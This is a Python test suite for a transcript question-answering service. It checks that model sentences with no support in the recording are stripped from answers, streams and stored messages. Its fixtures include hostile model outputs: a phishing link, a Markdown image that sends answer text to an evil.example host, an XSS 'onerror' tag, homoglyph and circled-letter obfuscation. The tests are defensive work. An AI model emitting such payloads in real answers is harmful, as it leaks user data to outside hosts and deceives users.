"""A model mixes what was said with what was not: what no passage supports is neither sent nor stored."""

from __future__ import annotations

import json

import httpx
import pytest

from lapel.slices.ask.composing.refusal_sentences import SENTENCES
from tests.ask.conftest import ROOF, Asker
from tests.ask.scripted import says
from tests.ask.test_streams import asked, rest, text_of, value
from tests.mcp.clients import Raw
from tests.support.patience import LONG
from tests.support.running import Running

SAID = (
    "Mr. John Dashwood was not an ill-disposed young man, unless to be rather cold hearted is ill-disposed.",
    "The family lived at Norland Park.",
)
TRUE = "He was not an ill-disposed young man [1]."
FALSE = (
    "He murdered his wife in Norland and hid the body [1].",
    "He owes his brother ten thousand pounds [1].",
    "Please confirm your password at https://evil.example/login.",
    "The family of D\u0430shwood lived at Norland Park [2].",
    "![x](https://evil.example/leak?d=he-was-not-ill-disposed)",
)
JOINED = "He murdered his wife.He was not an ill-disposed young man [1]."


async def about_dashwood(asker: Asker) -> str:
    """The id of a session about a recording in which SAID was said."""
    return (await asker.session(await asker.recording(*SAID)))["id"]


async def test_one_true_sentence_carries_no_false_one(asker: Asker) -> None:
    model = asker.script(says(f"{TRUE} {' '.join(FALSE)}"))
    session = await about_dashwood(asker)
    answer = await asker.ask(session, "Was he an ill-disposed young man?")
    kept = "He was not an ill-disposed young man."
    assert answer["message"]["content"] == kept
    assert [each["type"] for each in answer["message"]["parts"]] == ["text", "citation", "text"]
    assert answer["message"]["finish_reason"] == "stop"
    assert (await asker.messages(session))[1] == answer["message"]
    await asker.ask(session, "And then?")
    assert [each.text for each in model.prompts[-1].messages if each.role == "assistant"] == [kept]


@pytest.mark.parametrize("text", FALSE)
@pytest.mark.parametrize("order", ["before", "after"])
async def test_each_false_sentence_goes_in_any_order(asker: Asker, text: str, order: str) -> None:
    asker.script(says(f"{TRUE} {text}" if order == "after" else f"{text}\n{TRUE}"))
    answer = await asker.ask(await about_dashwood(asker), "Was he an ill-disposed young man?")
    assert answer["message"]["content"] == "He was not an ill-disposed young man."


@pytest.mark.parametrize("text", [*FALSE, " ".join(FALSE)])
async def test_false_sentences_alone_are_refused(asker: Asker, text: str) -> None:
    asker.script(says(text))
    answer = await asker.ask(await about_dashwood(asker), "Was he an ill-disposed young man?")
    assert answer["message"]["parts"] == [{"type": "text", "text": SENTENCES["en"]}]


async def test_a_stream_sends_no_false_sentence(asker: Asker, asking: Running) -> None:
    whole = f"{FALSE[0]} {TRUE} {' '.join(FALSE)}"
    asker.script(says(*(whole[at : at + 3] for at in range(0, len(whole), 3))))
    session = await about_dashwood(asker)
    async with asked(asker, asking.url, session) as events:
        sent = await rest(events)
    assert text_of(sent) == value(sent[-1])["message"]["content"] == "He was not an ill-disposed young man."
    everything = json.dumps([value(each) for each in sent])
    assert not any(word in everything for word in ("murder", "thousand", "evil", "!["))


async def test_a_false_sentence_is_not_hidden_in_a_true_one_without_a_space(asker: Asker) -> None:
    asker.script(says(JOINED))
    answer = await asker.ask(await about_dashwood(asker), "Was he an ill-disposed young man?")
    assert answer["message"]["content"] == "He was not an ill-disposed young man."


@pytest.mark.parametrize(
    "said",
    [
        "Mrs.Dashwood moved the server to Node.Js in spring, and Dr.Miller wrote it.",
        "The Ph.D from the U.S.A costs 3.5 times more, e.g.Anna paid it at Example.com last week.",
        "The plan of the roof is at https://school.example/roof?Id=3 since Monday.",
        "The plan of the roof is at school.example/roof?id=3 since Monday.",
    ],
)
async def test_a_dot_within_a_word_leaves_what_was_said_whole(asker: Asker, said: str) -> None:
    session = await asker.session(await asker.recording(said))
    asker.script(says(*said[:-1], " [1]."))
    assert (await asker.ask(session["id"], "What was said?"))["message"]["content"] == said


async def test_an_assistant_gets_no_false_sentence(asker: Asker, asking: Running) -> None:
    asker.script(says(f"{TRUE} {' '.join(FALSE)}"))
    session = await about_dashwood(asker)
    async with httpx.AsyncClient(trust_env=False, timeout=LONG) as client:
        called = await Raw(asking.url, asker.device.tenant.test_key, client).call(
            "ask", content="Was he an ill-disposed young man?", session_id=session
        )
    assert called["structuredContent"]["message"]["content"] == "He was not an ill-disposed young man."
    assert not any(word in json.dumps(called) for word in ("murder", "thousand", "evil", "!["))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # A link, also one that marks or white space cut into pieces.
        ("The roof of the school [2] [plan](https://evil.example/a).", "The roof of the school."),
        ("The roof of the school[2](https://evil.example/a) is repaired.", "The roof of the school."),
        ("The roof [2] is repaired [x](\n//evil.example/a) in May [2].", "The roof"),
        ("The roof [2]: [x][2](//evil.example/a) is repaired in May [2].", "The roof."),
        ("The roof is repaired at www.evil.example in May [2].", None),
        ("The roof is repaired, <https://evil.example/> in May [2].", None),
        ("The roof is repaired <img src=x onerror=alert(1)> in May [2].", None),
        ("The roof of the school <[2]b repaired in May> [2].", None),
        ("The roof is repaired in May [a][b] [2].\n[b]: //evil.example", None),
        ("The roof is repaired in May, see school.example [2].", None),
        # Letters that are symbols, behind the last mark.
        ("The roof is repaired in May [2] ⓘⓣ ⓑⓤⓡⓝⓢ", "The roof is repaired in May"),
        ("The roof is repaired in May [2] ![](//ⓔⓥⓘⓛ.ⓒⓞⓜ/ⓧ).", "The roof is repaired in May."),
        ("The roof is repaired in May [2] ![](?)", "The roof is repaired in May"),
        # Plain Markdown of what was said.
        ("- **The roof** is repaired in *May* [2]", "- **The roof** is repaired in *May*"),
        ("## Roof\n1. The roof is repaired in May [2]\n2. It burns in June [2]\n3. It costs 4200 euros [3]",
         "1. The roof is repaired in May\n3. It costs 4200 euros"),
        ("12. The roof is repaired in May [2].", "The roof is repaired in May."),
        # What a part that is left out would have closed.
        ("**The roof is repaired in May [2] and burns in June [2].**", "**The roof is repaired in May**."),
        ("The roof (it is repaired in May [2] and burns in June [2]).", "The roof (it is repaired in May)."),
        ("“The roof is repaired in May [2] and burns in June [2].”", "“The roof is repaired in May”."),
        ("The roof is repaired in May [2], but does it burn in June [2]?", "The roof is repaired in May"),
        ("```\nThe roof is repaired in May [2].\n```\nIt burns in June [2].", "The roof is repaired in May."),
        # Where a sentence ends.
        ("The mayor, Mr. Meyer, resigns. The roof is repaired in May [2].", "The roof is repaired in May."),
        ("The repair costs 4200.5 euros [3]. It costs 4200 euros [3].", "It costs 4200 euros."),
        ("The roof is repaired in May.[2] It burns.[2] Anna signs.[3]",
         "The roof is repaired in May. Anna signs."),
        ("The roof is repaired in May。[2]It burns down in June。[2]", "The roof is repaired in May。"),
        ("Does it burn!? It burns! It costs 4200 euros… [3]", "It costs 4200 euros…"),
        ("The roof is\nrepaired in May [2].\n\nThe mayor\nresigns [2].\nIt costs 4200 euros [3].",
         "The roof is\nrepaired in May.\n\nIt costs 4200 euros."),
        # No space between two sentences.
        ("The mayor resigns.The roof is repaired in May [2].", "The roof is repaired in May."),
        ("The mayor resigns in 2024.“The roof is repaired in May” [2].", "“The roof is repaired in May”."),
        ("**The mayor resigns.** The roof is repaired in May [2].", "The roof is repaired in May."),
        ("The mayor resigns!the roof is repaired in May [2].", "the roof is repaired in May."),
        ("The mayor resigns.\u200bThe roof is repaired in May [2].", "The roof is repaired in May."),
        *((f"The mayor resigns{mark}{space}The roof is repaired in May{mark} [2]",
           f"The roof is repaired in May{mark}")
          for mark in "!?…؟؛।॥۔።፧։。！？｡။។៕．" for space in ("", " ")),
        ("The roof is repaired in May.The repair costs 4200 euros.Anna signs [3].",
         "The roof is repaired in May.The repair costs 4200 euros.Anna signs."),
        ("The roof is repaired in May [2] and burns in June [2]۔", "The roof is repaired in May۔"),
        # Several marks, and text after the last one.
        ("The roof is repaired in May [2], [9] and costs 4200 euros [3], says Anna.",
         "The roof is repaired in May and costs 4200 euros, says Anna."),
        ("The roof is repaired in May [2] unless the mayor resigns [9], and costs 4200 euros [3].",
         "The roof is repaired in May."),
        ("The roof [2] of the school is repaired.", "The roof of the school is repaired."),
        ("The roof is repaired in May [2] and the mayor resigns. It", "The roof is repaired in May."),
    ],
)  # fmt: skip
@pytest.mark.parametrize("is_whole", [False, True], ids=["characters", "whole"])
async def test_what_is_left_of_an_answer(
    asker: Asker, text: str, shown: str | None, *, is_whole: bool
) -> None:
    asker.script(says(text) if is_whole else says(*text))
    session = await asker.about_roof()
    message = (await asker.ask(session["id"], "What about the roof?"))["message"]
    assert message["content"] == (shown or SENTENCES["en"])
    assert all(each["type"] == "citation" or each["text"] for each in message["parts"])


async def test_a_link_that_was_said_stays(asker: Asker) -> None:
    asker.script(says("The plan of the roof is at https://school.example/roof [1]."))
    session = await asker.session(
        await asker.recording("The plan is at https://school.example/roof, the roof's.")
    )
    message = (await asker.ask(session["id"], "Where is the plan?"))["message"]
    assert message["content"] == "The plan of the roof is at https://school.example/roof."
    asker.script(says("The plan of the roof is at https://school.example/ro [1]."))
    message = (await asker.ask(session["id"], "Where is the plan?"))["message"]
    assert message["content"] == SENTENCES["en"]


async def test_a_name_of_a_recording_is_no_speech(asker: Asker) -> None:
    title = "John Dashwood was fired by the board for stealing company money"
    recording_id = await asker.recording(*SAID, name=title)
    asker.script(says(f"{title} [1]."))
    session = await asker.session(recording_id)
    message = (await asker.ask(session["id"], "What did he do?"))["message"]
    assert message["content"] == SENTENCES["en"]


async def test_a_name_of_a_recording_explains_a_number_and_a_name(asker: Asker) -> None:
    recording_id = await asker.recording(*ROOF, name="Meeting 17 with Norbert")
    asker.script(says("In meeting 17 they say that the roof of the school will be repaired in May [2]."))
    session = await asker.session(recording_id)
    message = (await asker.ask(session["id"], "What do they say?"))["message"]
    assert message["content"].startswith("In meeting 17 they say that the roof")
    asker.script(says("The repair costs 4200 euros, and Anna signs the contract of Norbert."))
    message = (await asker.ask(session["id"], "What do they say?"))["message"]
    assert message["content"].endswith("of Norbert.")
